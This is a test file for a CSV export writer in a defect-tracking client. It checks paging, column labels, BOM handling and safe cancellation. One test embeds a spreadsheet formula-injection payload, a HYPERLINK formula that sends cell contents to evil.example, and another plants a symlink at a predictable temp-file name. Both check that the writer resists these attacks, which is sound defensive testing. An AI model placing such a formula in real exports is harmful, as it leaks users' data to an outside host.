// The CSV writer against a fake project: the whole result page by page (not only a first page), the
// header from the fields' labels, values as the other views read them (list values, users' full
// names, releases by name, memos as plain text), the optional BOM; and a cancel or a failure leaves
// the chosen file as it was, with no temporary file behind.
import * as assert from 'node:assert/strict';
import { existsSync, mkdtempSync, readFileSync, readdirSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { CollectionQuery, Defect, FieldCatalog, FieldMeta } from '../../../src/api/index';
import { writeCsv } from '../../../src/export/writer';
import { readCsv } from '../../support/csv';
import { fakeProject } from '../../support/fakeProject/project';
import type { FakeProject } from '../../support/fakeProject/project';

const FIELDS: FieldMeta[] = [
  { name: 'id', label: 'Defect ID', dataType: { name: 'Integer', multiple: false } },
  { name: 'name', label: 'Summary', dataType: { name: 'String', multiple: false } },
  { name: 'owner', label: 'Assigned To', dataType: { name: 'Reference', multiple: false, source: { kind: 'resource', collection: 'users' } } },
  { name: 'target-rel', label: 'Target Release', dataType: { name: 'Reference', multiple: false, source: { kind: 'resource', collection: 'releases' } } },
  { name: 'description', label: 'Description', dataType: { name: 'Memo', multiple: false }, sanitization: 'HTML' },
].map((f) => ({ required: false, referenceMatch: false, inputValidations: [], outputValidations: [], hidden: false, editable: true, ...f }) as FieldMeta);

const catalog: FieldCatalog = { collection: 'defects', fields: FIELDS, get: (n) => FIELDS.find((f) => f.name === n), label: (n) => n };

/** `total` Open defects (the query asks for Open ones), read page by page; `onPage(n)` runs as page n is asked for. */
function exportProject(total: number, onPage?: (n: number) => void): { api: FakeProject; queries: CollectionQuery[] } {
  const defects: Defect[] = Array.from({ length: total }, (_, i) => ({
    type: 'defect',
    id: i + 1,
    status: 'Open',
    name: i + 1 === 2 ? 'Crash, then "hang"' : `Defect ${i + 1}`,
    owner: 'bob',
    'target-rel': { id: 1002, type: 'release' },
    description: '<html><body><p>First</p><p>second &amp; last</p></body></html>',
  }));
  const api = fakeProject({ defects, catalog });
  api.beforePage = () => onPage?.(api.pageCalls.length - 1);
  return { api, queries: api.queries };
}

const names = { users: new Map([['bob', { name: 'bob', fullName: 'Bob Builder' }]]), releases: { releases: [{ id: 1002, name: 'Release 2' }], cycles: [] } };
const query = { server: 'Demo', domain: 'DEFAULT', project: 'Demo', filter: { status: ['Open'] }, orderBy: [{ field: 'id', direction: 'asc' as const }], title: 'Open' };

describe('export: the CSV writer', () => {
  let dir: string;
  beforeEach(() => (dir = mkdtempSync(join(tmpdir(), 'alm-csv-'))));
  afterEach(() => rmSync(dir, { recursive: true, force: true }));

  it('writes every page of the result with labelled columns and values as the views read them', async () => {
    const { api, queries } = exportProject(2500);
    const path = join(dir, 'out.csv');
    const progress: number[] = [];
    const result = await writeCsv(api, { query, columns: ['id', 'name', 'owner', 'target-rel', 'description'], path, bom: true, names, pageSize: 1000, onProgress: (rows) => progress.push(rows) });
    const bytes = readFileSync(path);
    assert.deepEqual([...bytes.subarray(0, 3)], [0xef, 0xbb, 0xbf], 'UTF-8 BOM');
    assert.equal(result.bytes, bytes.length);
    const rows = readCsv(bytes.subarray(3).toString('utf8'));
    assert.deepEqual(rows[0], ['Defect ID', 'Summary', 'Assigned To', 'Target Release', 'Description']);
    assert.equal(rows.length, 2501);
    assert.equal(result.rows, 2500);
    assert.deepEqual(rows[2], ['2', 'Crash, then "hang"', 'Bob Builder (bob)', 'Release 2', 'First second & last']);
    assert.deepEqual(rows[2500][0], '2500');
    assert.deepEqual(progress, [1000, 2000, 2500]);
    // The server query is the grid's, with exactly the visible columns.
    assert.deepEqual([queries[0].filter, queries[0].orderBy, queries[0].fields], [query.filter, query.orderBy, ['id', 'name', 'owner', 'target-rel', 'description']]);
    assert.deepEqual(readdirSync(dir), ['out.csv']);
  });

  it('writes no BOM when the setting is off', async () => {
    const path = join(dir, 'plain.csv');
    await writeCsv(exportProject(1).api, { query, columns: ['id'], path, bom: false, names });
    assert.equal(readFileSync(path, 'utf8'), 'Defect ID\r\n1\r\n');
  });

  it('leaves the chosen file as it was after a cancel, with no temporary file behind', async () => {
    const path = join(dir, 'keep.csv');
    writeFileSync(path, 'earlier export');
    const cancel = new AbortController();
    const { api } = exportProject(5000, (n) => n === 2 && cancel.abort());
    await assert.rejects(writeCsv(api, { query, columns: ['id', 'name'], path, bom: true, names, pageSize: 1000, signal: cancel.signal }), { name: 'AbortError' });
    assert.equal(readFileSync(path, 'utf8'), 'earlier export');
    assert.deepEqual(readdirSync(dir), ['keep.csv']);
  });

  it('guards the header as it guards values: a field label can start a formula (issue 38.6)', async () => {
    const label = '=HYPERLINK("http://evil.example/?"&A2,"Summary")';
    const hostile: FieldCatalog = { ...catalog, get: (n) => (n === 'name' ? { ...FIELDS[1], label } : catalog.get(n)) };
    const { api } = exportProject(1);
    api.catalog = hostile;
    const path = join(dir, 'guarded.csv');
    await writeCsv(api, { query, columns: ['id', 'name'], path, bom: false, guardFormulas: true, names });
    assert.deepEqual(readCsv(readFileSync(path, 'utf8'))[0], ['Defect ID', `'${label}`]);
  });

  it('does not follow a symlink planted where the temporary file would be (issue 38.6)', async () => {
    const victim = join(dir, 'victim.txt');
    writeFileSync(victim, 'not to be touched');
    const path = join(dir, 'out.csv');
    // The temporary name as it used to be made (pid and clock): planted for the moment of the export.
    const now = Date.now();
    symlinkSync(victim, join(dir, `.out.csv.${process.pid}.${now}.part`));
    const realNow = Date.now;
    Date.now = () => now;
    try {
      await writeCsv(exportProject(3).api, { query, columns: ['id'], path, bom: false, names });
    } finally {
      Date.now = realNow;
    }
    assert.equal(readFileSync(victim, 'utf8'), 'not to be touched');
    assert.equal(readFileSync(path, 'utf8'), 'Defect ID\r\n1\r\n2\r\n3\r\n');
  });

  it("fails with the file system's reason when the folder cannot be written, without hanging", async () => {
    const path = join(dir, 'missing-folder', 'out.csv');
    await assert.rejects(writeCsv(exportProject(10).api, { query, columns: ['id'], path, bom: true, names }), { code: 'ENOENT' });
    assert.ok(!existsSync(path));
  });
});
